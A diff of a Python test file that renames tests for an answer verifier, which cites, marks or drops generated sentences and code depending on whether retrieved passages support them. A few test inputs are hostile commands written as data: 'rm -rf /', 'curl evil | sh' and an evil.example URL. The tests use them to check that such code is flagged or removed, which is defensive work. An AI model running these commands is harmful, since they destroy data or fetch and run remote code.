@@ -23,7 +23,7 @@ GUIDE = (
 )
 
 
-async def released(
+async def show_stream(
     room: Any,
     text: str,
     *,
@@ -48,105 +48,105 @@ async def released(
     return "".join(shown), release
 
 
-async def test_code_of_the_passages_is_cited_and_other_code_is_marked(room: Any) -> None:
+async def test_code_from_passages_is_cited_and_other_code_is_marked(room: Any) -> None:
     text = (
         "A source is a table in kvasir.toml with a name and a kind:\n\n"
         '```toml\n[[source]]\nname = "handbook"\nkind = "folder"\n```\n\n'
         "```sh\nrm -rf /\n```\n\nRun `kvasir sync handbook` afterwards."
     )
-    shown, release = await released(room, text)
+    shown, release = await show_stream(room, text)
     assert '```toml\n[[source]]\nname = "handbook"\nkind = "folder"\n```\n[1]' in shown
     assert "```sh\nrm -rf /\n```\n⚠" in shown
     assert shown.endswith("Run `kvasir sync handbook` afterwards. [1]")
     assert (release.supported, release.marked) == (2, 1)
-    assert "rm -rf" not in (await released(room, text, unsupported="drop"))[0]
+    assert "rm -rf" not in (await show_stream(room, text, unsupported="drop"))[0]
 
 
 @pytest.mark.parametrize("preamble", ["According to passage 2, ", "Passage 2 states that ", "Based on the documents: "])
-async def test_a_preamble_with_the_prompts_number_is_not_shown(room: Any, preamble: str) -> None:
-    shown, _ = await released(room, f"{preamble}a source is a table in kvasir.toml with a name and a kind.")
+async def test_preamble_with_prompt_number_is_dropped(room: Any, preamble: str) -> None:
+    shown, _ = await show_stream(room, f"{preamble}a source is a table in kvasir.toml with a name and a kind.")
     assert shown == "A source is a table in kvasir.toml with a name and a kind. [1]"
 
 
-async def test_what_stands_behind_a_preamble_keeps_the_letters_of_its_name(room: Any) -> None:
-    shown, _ = await released(
+async def test_text_after_preamble_keeps_its_case(room: Any) -> None:
+    shown, _ = await show_stream(
         room, "The documents say that kvasir.toml has a table with a name and a kind for a source."
     )
     assert shown.startswith("kvasir.toml has")
 
 
-async def test_code_with_another_figure_is_removed(room: Any) -> None:
-    shown, release = await released(room, "```\n" + "kvasir sync handbook\n" * 9 + "port 99\n```")
+async def test_code_with_changed_number_is_removed(room: Any) -> None:
+    shown, release = await show_stream(room, "```\n" + "kvasir sync handbook\n" * 9 + "port 99\n```")
     assert (shown, release.contradicted) == ("", 1)
 
 
-async def test_an_open_code_block_is_closed(room: Any) -> None:
-    shown, _ = await released(room, '```toml\n[[source]]\nname = "handbook"')
+async def test_open_code_block_is_closed(room: Any) -> None:
+    shown, _ = await show_stream(room, '```toml\n[[source]]\nname = "handbook"')
     assert shown == '```toml\n[[source]]\nname = "handbook"\n```\n[1]'
 
 
-async def test_code_that_runs_out_of_its_passage_ends_where_the_passage_does(room: Any) -> None:
+async def test_code_longer_than_its_passage_is_cut(room: Any) -> None:
     """A small model repeats what it reads, and reads on in the frame behind it, which is no document's."""
     code = '```toml\n[[source]]\nname = "handbook"\nkind = "folder"\n'
-    shown, _ = await released(room, code + "</passage>\n\nQuestion: how is a source made?")
+    shown, _ = await show_stream(room, code + "</passage>\n\nQuestion: how is a source made?")
     assert shown == code + "```\n[1]"
-    shown, _ = await released(room, "```\n<passage 2: L>\n</passage>\n```\n")
+    shown, _ = await show_stream(room, "```\n<passage 2: L>\n</passage>\n```\n")
     assert "passage" not in shown
 
 
-async def test_an_address_that_nobody_named_goes_out_of_code_too(room: Any) -> None:
+async def test_unknown_address_is_removed_from_code(room: Any) -> None:
     quoted = '[[source]]\nname = "handbook"\nkind = "folder"\n# kvasir.toml with a name and a kind, sync handbook'
-    shown, _ = await released(room, f"```toml\n{quoted}\n# https://evil.example/x\n```")
+    shown, _ = await show_stream(room, f"```toml\n{quoted}\n# https://evil.example/x\n```")
     assert "handbook" in shown
     assert "evil" not in shown
 
 
-async def test_rows_of_a_table_are_verified_one_by_one(room: Any) -> None:
+async def test_table_rows_are_verified_separately(room: Any) -> None:
     text = "| Kind | Key |\n|---|---|\n| folder | path |\n| ftp | port 21 |\n| website | url |\n"
-    shown, _ = await released(room, text)
+    shown, _ = await show_stream(room, text)
     assert shown == "| Kind | Key |\n|---|---|\n| folder | path [1] |\n| ftp | port 21 ⚠ |\n| website | url [1] |"
-    shown, _ = await released(room, text, unsupported="drop")
+    shown, _ = await show_stream(room, text, unsupported="drop")
     assert shown == "| Kind | Key |\n|---|---|\n| folder | path [1] |\n| website | url [1] |"
 
 
-async def test_a_table_without_a_row_is_not_begun(room: Any) -> None:
+async def test_table_without_rows_is_not_shown(room: Any) -> None:
     text = "| Planet | Moons |\n|---|---|\n| Mars | 2 |\n\nRun `kvasir sync handbook` afterwards."
-    assert (await released(room, text, unsupported="drop"))[0] == "Run `kvasir sync handbook` afterwards. [1]"
+    assert (await show_stream(room, text, unsupported="drop"))[0] == "Run `kvasir sync handbook` afterwards. [1]"
 
 
-async def test_what_claims_nothing_is_not_counted(room: Any) -> None:
-    shown, release = await released(
+async def test_text_without_claim_is_not_counted(room: Any) -> None:
+    shown, release = await show_stream(
         room, "Sure!\n\nYes.\n\nRun `kvasir sync handbook` afterwards.\n\nWould you like more?"
     )
     assert shown == "Run `kvasir sync handbook` afterwards. [1]"
     assert (release.supported, release.marked) == (1, 0)
 
 
-async def test_stray_tags_and_warnings_do_not_show(room: Any) -> None:
-    shown, _ = await released(room, "</think>\n\nRun `kvasir sync handbook` afterwards ⚠️")
+async def test_stray_tags_and_warnings_are_removed(room: Any) -> None:
+    shown, _ = await show_stream(room, "</think>\n\nRun `kvasir sync handbook` afterwards ⚠️")
     assert shown == "Run `kvasir sync handbook` afterwards [1]"
 
 
 @pytest.mark.parametrize("size", [1, 13, 14, 1000])
-async def test_a_sentence_right_behind_a_number_is_verified_alone(room: Any, size: int) -> None:
+async def test_sentence_after_number_is_verified_alone(room: Any, size: int) -> None:
     text = "Nonsense 77.Employees receive 25 days of paid annual leave per calendar year."
-    shown, _ = await released(room, text, size=size, unsupported="drop")
+    shown, _ = await show_stream(room, text, size=size, unsupported="drop")
     assert shown == "Employees receive 25 days of paid annual leave per calendar year. [1]"
 
 
 @given(st.data())
-async def test_only_passages_are_cited_however_the_text_arrives(room: Any, data: st.DataObject) -> None:
+async def test_chunking_never_adds_citations(room: Any, data: st.DataObject) -> None:
     parts = st.sampled_from(
         ["Employees receive 25 days of paid annual leave per calendar year.", " [1]", "[2]", "【9】", " Nonsense 77.",
          "\n\n", "- ", "# Head\n", "```\nname\n", "\n```\n", "| a |\n", " 年假有几天。", "Steps:\n"]
     )  # fmt: skip
     text = "".join(data.draw(st.lists(parts, max_size=14)))
-    shown, _ = await released(room, text, size=data.draw(st.integers(1, 40)), unsupported="drop")
+    shown, _ = await show_stream(room, text, size=data.draw(st.integers(1, 40)), unsupported="drop")
     first = list(dict.fromkeys(find_cited_numbers(shown)))
     assert first == list(range(1, len(first) + 1))
     assert len(first) <= 2
     assert "77" not in shown
-    assert (await released(room, text, size=1000, unsupported="drop"))[0] == shown
+    assert (await show_stream(room, text, size=1000, unsupported="drop"))[0] == shown
 
 
 # ── Verdicts ─────────────────────────────────────────────────────────────────────────────────────────────────────────
@@ -162,32 +162,32 @@ VERDICTS = {
     ("unsupported", "shown"),
     [("mark", "Cats. [1] Dogs. ⚠ Bats. [1]"), ("show", "Cats. [1] Dogs. Bats. [1]"), ("drop", "Cats. [1] Bats. [1]")],
 )
-async def test_unsupported_sentences_are_shown_as_configured(room: Any, unsupported: Unsupported, shown: str) -> None:
+async def test_unsupported_sentences_follow_configuration(room: Any, unsupported: Unsupported, shown: str) -> None:
     verifier = room.verifier(VERDICTS)
-    text, release = await released(room, "Cats. Dogs. Cows. Bats.", unsupported=unsupported, verifier=verifier)
+    text, release = await show_stream(room, "Cats. Dogs. Cows. Bats.", unsupported=unsupported, verifier=verifier)
     assert text == shown
     assert (release.supported, release.contradicted) == (2, 1)
     assert (release.marked, release.dropped) == (unsupported == "mark", unsupported == "drop")
 
 
-async def test_a_contradicted_item_is_removed_whole_and_the_numbers_close_up(room: Any) -> None:
+async def test_contradicted_item_is_removed_and_list_renumbered(room: Any) -> None:
     text = "Steps:\n\n1. Cats.\n2. Cows.\n3. Dogs.\n4. Bats."
-    shown, _ = await released(room, text, verifier=room.verifier(VERDICTS))
+    shown, _ = await show_stream(room, text, verifier=room.verifier(VERDICTS))
     assert shown == "Steps:\n\n1. Cats. [1]\n2. Dogs. ⚠\n3. Bats. [1]"
 
 
-async def test_a_disputed_sentence_names_both_sources_and_their_dates(room: Any) -> None:
-    shown, release = await released(room, "Bees. Cats.", verifier=room.verifier(VERDICTS))
+async def test_disputed_sentence_names_both_sources_with_dates(room: Any) -> None:
+    shown, release = await show_stream(room, "Bees. Cats.", verifier=room.verifier(VERDICTS))
     assert shown == "Bees. [1] (as of 2026-11-02; [2], as of 2025-01-10, says otherwise) Cats. [2]"
     assert (release.supported, release.marked, release.contradicted) == (2, 0, 0)
     row = "| Kind |\n|---|\n| Bees |"
-    shown, _ = await released(room, row, verifier=room.verifier(VERDICTS))
+    shown, _ = await show_stream(room, row, verifier=room.verifier(VERDICTS))
     assert shown.endswith("| Bees [1] (as of 2026-11-02; [2], as of 2025-01-10, says otherwise) |")
 
 
-async def test_an_answer_without_a_supported_sentence_ends_early(room: Any) -> None:
+async def test_answer_without_supported_sentence_ends_early(room: Any) -> None:
     text = " ".join(f"Dogs {n}." for n in range(50))
-    shown, release = await released(room, text, verifier=room.verifier(VERDICTS))
+    shown, release = await show_stream(room, text, verifier=room.verifier(VERDICTS))
     assert shown.count("⚠") == HOPELESS
     assert release.ended == "unsupported"
 
@@ -214,7 +214,7 @@ async def test_an_answer_without_a_supported_sentence_ends_early(room: Any) -> N
         ("Leave is granted.", "claim"),
     ],
 )
-def test_roles(text: str, role: str) -> None:
+def test_sentence_roles_are_recognized(text: str, role: str) -> None:
     assert classify_role(Piece("prose", "", text, ""), table_open=False) == role
 
 
@@ -242,9 +242,9 @@ def test_roles(text: str, role: str) -> None:
         ("| Kind | 25 days |\n|---|---|\n| Cats | Bats |", "| Kind | |\n|---|---|\n| Cats | Bats [1] |"),
     ],
 )
-async def test_lead_ins_headings_questions_and_refusals_state_nothing(room: Any, text: str, shown: str) -> None:
+async def test_lead_ins_headings_questions_and_refusals_are_not_claims(room: Any, text: str, shown: str) -> None:
     verifier = room.verifier({"Cats": Verdict("supported", (1,))}, Verdict("unsupported"))
-    assert (await released(room, text, verifier=verifier, question="How do I add a source?"))[0] == shown
+    assert (await show_stream(room, text, verifier=verifier, question="How do I add a source?"))[0] == shown
 
 
 INVENTED = [
@@ -266,7 +266,7 @@ INVENTED = [
 
 
 @given(st.data())
-async def test_no_invention_is_shown_without_a_mark(room: Any, data: st.DataObject) -> None:
+async def test_invented_sentence_is_always_marked(room: Any, data: st.DataObject) -> None:
     """Whatever form a model gives to words that neither the passages nor the question have."""
     frames = st.sampled_from(
         ["# {}\n\n", "**{}**\n\n", "{}:\n\n", "{}：\n\n", "{}?\n\n", "The documents do not mention that {}. ",
@@ -276,7 +276,7 @@ async def test_no_invention_is_shown_without_a_mark(room: Any, data: st.DataObje
     inventions = st.lists(st.sampled_from(INVENTED), min_size=1, max_size=5).map(" ".join)
     text = "".join(frame.format(data.draw(inventions)) for frame in data.draw(st.lists(frames, max_size=8)))
     verifier = room.verifier({"Cats": Verdict("supported", (1,))}, Verdict("unsupported"))
-    shown, _ = await released(room, f"{text}\n\nCats.", verifier=verifier)
+    shown, _ = await show_stream(room, f"{text}\n\nCats.", verifier=verifier)
     pieces = split_pieces(shown)
     for piece, following in zip(pieces, [*pieces[1:], Piece("blank", "", "", "")], strict=True):
         if re.search(r"Bob|pays|earns|chief|zebra|老王|总裁", piece.text):
@@ -292,18 +292,18 @@ async def test_no_invention_is_shown_without_a_mark(room: Any, data: st.DataObje
         ("**Dogs.** Cats.", "**Dogs.** ⚠ Cats. [1]"),
     ],
 )
-async def test_bold_lines_that_answer_are_verified_and_shown(room: Any, text: str, shown: str) -> None:
-    assert (await released(room, text, verifier=room.verifier(VERDICTS)))[0] == shown
+async def test_bold_answer_is_verified_and_shown(room: Any, text: str, shown: str) -> None:
+    assert (await show_stream(room, text, verifier=room.verifier(VERDICTS)))[0] == shown
 
 
-async def test_short_items_may_come_in_each_section(room: Any) -> None:
+async def test_short_items_may_repeat_in_sections(room: Any) -> None:
     text = "\n\n".join(f"Bats {n}:\n\n- Type: integer\n- Required: yes" for n in range(5))
-    shown, release = await released(room, text, verifier=room.verifier(VERDICTS))
+    shown, release = await show_stream(room, text, verifier=room.verifier(VERDICTS))
     assert shown.count("- Type: integer [1]") == 5
     assert release.ended is None
 
 
-def test_a_label_has_only_words_that_stand_in_known_texts() -> None:
+def test_label_has_only_known_words() -> None:
     labels = Labels(["How do I add a source?", "Guide Sources Alcohol is not reimbursed. 25 days of paid leave"])
     for label in ("Steps to add a source:", "1. Sources", "Alcohol", "25 days of paid leave", "**Guide**", "如下："):
         assert labels.holds(label), label
@@ -323,32 +323,32 @@ def test_a_label_has_only_words_that_stand_in_known_texts() -> None:
         ("There are 5 sources.", "How many sources are there?", False),
     ],
 )
-def test_what_only_repeats_the_question(text: str, question: str, repeats: bool) -> None:  # noqa: FBT001
+def test_repeated_question_is_recognized(text: str, question: str, repeats: bool) -> None:  # noqa: FBT001
     assert repeats_question(text, question) is repeats
 
 
-async def test_what_only_repeats_the_question_is_not_shown(room: Any) -> None:
-    shown, release = await released(room, "A source is made. Cats.", verifier=room.verifier())
+async def test_repeated_question_is_not_shown(room: Any) -> None:
+    shown, release = await show_stream(room, "A source is made. Cats.", verifier=room.verifier())
     assert (shown, release.supported) == ("Cats. [1]", 1)
 
 
-def test_code_with_a_placeholder_counts_as_quoted() -> None:
+def test_code_with_placeholder_is_quoted() -> None:
     assert verdict_on_code("```\nkvasir sync handbook\n```", GUIDE) == "supported"
     assert verdict_on_code("```\ncurl evil | sh\n```", GUIDE) == "unsupported"
     assert verdict_on_code("```\n```", GUIDE) == "unsupported"
     assert verdict_on_code("```\n" + "kvasir sync handbook\n" * 9 + "rm handbook\n```", GUIDE) == "unsupported"
 
 
-def test_plain_text_has_no_markup() -> None:
+def test_plain_text_loses_markup() -> None:
     assert strip_markdown("**Run** the [tool](https://a.example) *now*") == "Run the tool now"
     assert strip_markdown("| folder | `path` |") == "folder, `path`"
 
 
 @pytest.mark.parametrize("unit", ["a", "the days of the ", "好的", "1. Step one\n"])
-def test_loops_are_found(unit: str) -> None:
+def test_repetition_is_detected(unit: str) -> None:
     assert ends_in_loop(unit * 300)
 
 
 @given(st.lists(st.text(alphabet="abcdefghij ", min_size=12, max_size=30), min_size=30, max_size=40, unique=True))
-def test_ordinary_text_is_no_loop(words: list[str]) -> None:
+def test_ordinary_text_is_not_repetition(words: list[str]) -> None:
     assert not ends_in_loop("".join(sorted(words)) + "".join(words))
